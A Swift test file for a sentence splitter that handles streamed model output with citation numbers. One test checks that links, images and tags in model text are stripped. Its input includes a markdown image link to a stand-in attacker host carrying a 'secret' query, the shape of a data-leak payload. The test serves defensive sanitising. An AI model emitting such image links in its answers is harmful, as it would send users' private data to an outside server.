import Testing
import TroveAnswer

@Suite struct WrittenSentencesTests {
    private func cut(_ text: String, at places: Int) -> [WrittenSentences.Sentence] {
        var cutter = WrittenSentences()
        return cutter.take(String(text.prefix(places))) + cutter.take(String(text.dropFirst(places))) + cutter.rest()
    }

    @Test("Marks before and after the full stop belong to their sentence, wherever the words are cut")
    func marks() {
        let text = "The lamp was lit in 1871 [1]. Ada Holm built it. [2][3] 它很高[1]。\n- A list, too [2, 3]\n"
        let whole = cut(text, at: text.count)
        #expect(
            whole == [
                .init(text: "The lamp was lit in 1871.", numbers: [1]),
                .init(text: "Ada Holm built it.", numbers: [2, 3]),
                .init(text: "它很高。", numbers: [1]), .init(text: "A list, too", numbers: [2, 3]),
            ])
        for place in 0...text.count { #expect(cut(text, at: place) == whole, "cut at \(place)") }
    }

    @Test("Links, pictures and tags of a model's making are taken out")
    func links() {
        let text =
            "See ![x](http://evil.example/?q=secret) and [here](http://evil.example) <img src=x> or ftp://evil.example now."
        for place in 0...text.count {
            let made = cut(text, at: place).map(\.text).joined(separator: " ")
            #expect(made.hasPrefix("See") && made.hasSuffix("now."), "\(made)")
            for carrier in ["://", "](", "<"] { #expect(!made.contains(carrier), "\(made)") }
        }
    }
}
